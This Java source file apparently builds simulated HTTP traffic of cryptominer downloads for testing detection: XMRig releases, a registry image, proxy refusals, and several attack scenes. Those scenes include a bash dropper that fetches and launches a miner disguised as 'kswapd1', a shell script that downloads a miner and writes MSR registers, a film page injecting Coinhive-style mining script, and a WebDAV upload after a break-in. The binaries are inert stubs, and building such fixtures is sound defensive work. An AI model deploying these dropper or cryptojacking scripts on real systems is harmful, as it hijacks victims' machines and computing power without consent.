package io.davylamp.sim;

import io.davylamp.sim.Files.Member;

/** Mining software on its way to a host, in clear. The files are made here; nothing in them runs. */
final class DownloadScenes {
  private static final String MIRROR = "198.51.100.90";
  private static final String DROPPER = "203.0.113.66";
  private static final String PROXY = "192.0.2.128";
  private static final String[] MINER = {"XMRig", "6.26.0", " * %-13s%s/%s %s", "--donate-level=N", "donate.v2.xmrig.com", "stratum+tcp://",
      "keepalived", "rx/0", "cn/r", "nicehash", "huge pages"};
  private static final String OCTETS = "application/octet-stream";

  private DownloadScenes() {}

  /** A release of XMRig as the project packs it. */
  static byte[] release() {
    return Files.tarGz(new Member("xmrig-6.26.0/", "755", new byte[0]), Files.plain("xmrig-6.26.0/SHA256SUMS", new Draw(1).hex(64) + " *xmrig\n"),
        Files.plain("xmrig-6.26.0/config.json", config("donate.v2.xmrig.com:3333", "YOUR_WALLET_ADDRESS")),
        Files.executable("xmrig-6.26.0/xmrig", Files.elf(MINER)));
  }

  static String config(String pool, String user) {
    return "{\n    \"api\": {\"id\": null, \"worker-id\": null},\n    \"http\": {\"enabled\": false},\n    \"autosave\": true,\n"
        + "    \"randomx\": {\"init\": -1, \"mode\": \"auto\", \"1gb-pages\": false},\n    \"cpu\": {\"enabled\": true, \"huge-pages\": true},\n"
        + "    \"opencl\": {\"enabled\": false},\n    \"cuda\": {\"enabled\": false},\n    \"donate-level\": 1,\n    \"pools\": [\n        {\n"
        + "            \"algo\": null,\n            \"url\": \"" + pool + "\",\n            \"user\": \"" + user + "\",\n            \"pass\": \"x\",\n"
        + "            \"keepalive\": true,\n            \"tls\": false\n        }\n    ],\n    \"retries\": 5,\n    \"pause-on-active\": false\n}\n";
  }

  /** From a mirror, by name: an archive, then its zip for Windows. */
  static Scene releases() {
    return Web.at(61, MIRROR, 80, "mirror.example.org").agent(Web.WGET).get("/miners/xmrig-6.26.0-linux-static-x64.tar.gz")
        .answer("200 OK", "application/gzip", release()).bye();
  }

  static Scene windows() {
    byte[] zip = Files.zip(true, Files.plain("SRBMiner-Multi-2-9-4/readme.txt", "help\n"),
        Files.executable("SRBMiner-Multi-2-9-4/SRBMiner-MULTI.exe", Files.pe("SRBMiner", "stratum+tcp://", "mining.subscribe", "kheavyhash")));
    return Web.at(62, MIRROR, 8080, "downloads.example.net").agent(Web.BROWSER).get("/SRBMiner-Multi-2-9-4-win64.zip")
        .answer("200 OK", "application/zip", zip).bye();
  }

  /** A dropper: the installer, then a renamed miner, then its configuration, from one address without a name. */
  static Scene dropper() {
    String script = "#!/bin/bash\nWALLET=" + Wallets.MONERO + "\nsysctl -w vm.nr_hugepages=1280\n"
        + "curl -s http://" + DROPPER + "/xmrig_setup/raw/master/xmrig.tar.gz -o /tmp/.x/xmrig.tar.gz\n"
        + "sed -i 's/\"url\": *\"[^\"]*\",/\"url\": \"gulf.moneroocean.stream:10128\",/' /tmp/.x/config.json\n"
        + "nohup /tmp/.x/kswapd1 --donate-level 1 --max-cpu-usage 100 >/dev/null 2>&1 &\n";
    return Web.at(63, DROPPER, 8000, DROPPER + ":8000").get("/xmrig_setup/raw/master/setup_c3pool_miner.sh")
        .answer("200 OK", "text/plain", script).get("/bins/kswapd1").answer("200 OK", OCTETS, Files.elf(MINER)).get("/bins/config.json")
        .answer("200 OK", "application/json", config("gulf.moneroocean.stream:10128", Wallets.MONERO)).bye();
  }

  /** A script nobody has listed, packed for the way and cut into chunks. */
  static Scene unknownScript() {
    String script = "#!/bin/sh\ncd /var/tmp\nwget -q http://" + DROPPER + "/b/xmrig-6.26.0.tar.gz\nmodprobe msr && wrmsr -a 0x1a4 0xf\n"
        + "./.init -o stratum+tcp://198.51.100.20:3333 -a rx/0 -k\n";
    return Web.at(64, DROPPER, 80, "cdn.example.com").get("/init.sh")
        .chunked("Content-Type: text/x-sh\r\nContent-Encoding: gzip\r\n", Files.gzip(Files.text(script)), 64).bye();
  }

  /** Handed to a server by its break-in. */
  static Scene upload() {
    return Web.at(65, "192.0.2.166", 8080, "192.0.2.166:8080").put("/webdav/java.tar.gz", "application/gzip",
        Files.tarGz(Files.executable("xmrig", Files.elf(MINER)))).answer("201 Created", "text/html", "").bye();
  }

  /** What a browser is served: a page that loads a miner, the miner's script, its WebAssembly. */
  static Scene browser() {
    String page = "<!DOCTYPE html>\n<html><head><title>Films</title></head><body><h1>Watch</h1>\n"
        + "<script src=\"/lib/coinhive.min.js\"></script>\n<script>\n  var m = new CoinHive.Anonymous('" + new Draw(5).hex(32)
        + "', {throttle: 0.3});\n  m.start();\n</script>\n</body></html>\n";
    String script = "(function(window){\"use strict\";var Miner=function(siteKey){this.params={site_key:siteKey}};\n"
        + "Miner.prototype.onMessage=function(msg){if(msg.type===\"hash_accepted\"){this.hashes++}};\n"
        + "self.CoinHive.CONFIG={LIB_URL:\"/lib/\",WEBSOCKET_SHARDS:[[\"ws://" + DROPPER + "/proxy\"]],CRYPTONIGHT_WORKER_BLOB:null};})(window);\n";
    byte[] wasm = Files.wasm(40, hex("637c777bf26b6fc53001672bfed7ab76"), hex("01000000000000008280000000000000" + "8b80000000000080"),
        hex("72d5dea2df15f8677b84150ab7231557"));
    return Web.at(66, "203.0.113.67", 80, "films.example.com").agent(Web.BROWSER).get("/").answer("200 OK", "text/html", page)
        .get("/lib/coinhive.min.js").answer("200 OK", "application/javascript", script).get("/lib/cryptonight.wasm")
        .answer("200 OK", "application/wasm", wasm).bye();
  }

  /** From a registry in clear: manifest and a layer. */
  static Scene image() {
    String manifest = "{\"schemaVersion\":2,\"mediaType\":\"application/vnd.docker.distribution.manifest.v2+json\",\"config\":{\"size\":1,"
        + "\"digest\":\"sha256:" + new Draw(6).hex(64) + "\"},\"layers\":[]}";
    return Web.at(67, "192.0.2.129", 5000, "registry.example.com:5000").agent("docker/24.0.7 go/go1.20.10").get("/v2/example/xmrig/manifests/latest")
        .answer("200 OK", "application/vnd.docker.distribution.manifest.v2+json", manifest)
        .get("/v2/example/xmrig/blobs/sha256:" + new Draw(6).hex(64)).answer("200 OK", OCTETS, Files.tarGz(Files.executable("usr/bin/xmrig", Files.elf(MINER))))
        .bye();
  }

  /** A store of files with the name in the query, a part of the file after the other, the middle of it lost on the way. */
  static Scene parts() {
    byte[] all = release();
    byte[] rest = java.util.Arrays.copyOfRange(all, 2000, all.length);
    String target = "/releases/88/asset?X-Amz-Expires=300&response-content-disposition=attachment%3B%20filename%3Dxmrig-6.26.0-linux-static-x64.tar.gz"
        + "&response-content-type=application%2Foctet-stream";
    return Web.at(68, MIRROR, 80, "objects.example.org").agent(Web.CURL).headers("Range: bytes=2000-\r\n").get(target).reply("206 Partial Content",
        "Content-Type: application/octet-stream\r\nContent-Range: bytes 2000-" + (all.length - 1) + "/" + all.length + "\r\n", rest).bye();
  }

  /** Through a proxy that knows the user and refuses, and through one that asks who it is. */
  static Scene refused() {
    String url = "http://github.example/xmrig/xmrig/releases/download/v6.26.0/xmrig-6.26.0-windows-x64.zip";
    return Web.at(69, PROXY, 3128, "github.example").agent("Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1")
        .headers("Proxy-Authorization: Basic YWxpY2U6c2VjcmV0\r\n").get(url)
        .answer("403 Forbidden", "text/html", "<html><title>Access denied</title>Category: cryptocurrency mining</html>").bye();
  }

  static Scene needsCredentials() {
    String url = "http://download.example/setup_moneroocean_miner.sh";
    return Web.at(70, PROXY, 3128, "download.example").get(url).reply("407 Proxy Authentication Required",
        "Proxy-Authenticate: Basic realm=\"proxy\"\r\nContent-Type: text/html\r\n", Files.text("<html>who are you</html>")).bye();
  }

  /** Not there; elsewhere; a page in its place. */
  static Scene notObtained() {
    return Scene.of(Web.at(71, MIRROR, 80, "old.example.org").get("/lolMiner_v1.92_Lin64.tar.gz").answer("404 Not Found", "text/html", "<html>no</html>").bye(),
        Web.at(72, MIRROR, 80, "code.example.org").get("/xmrig/xmrig/releases/download/v6.26.0/xmrig-6.26.0-linux-static-x64.tar.gz")
            .reply("301 Moved Permanently", "Location: https://code.example.org/x\r\nContent-Type: text/html\r\n", new byte[0]).bye(),
        Web.at(73, MIRROR, 80, "files.example.org").get("/t-rex-0.26.8-linux.tar.gz").answer("200 OK", "text/html",
            "<!DOCTYPE html><html><title>Blocked</title>This site is not allowed here.</html>").bye());
  }

  private static byte[] hex(String digits) {
    return new Octets().hex(digits).bytes();
  }
}
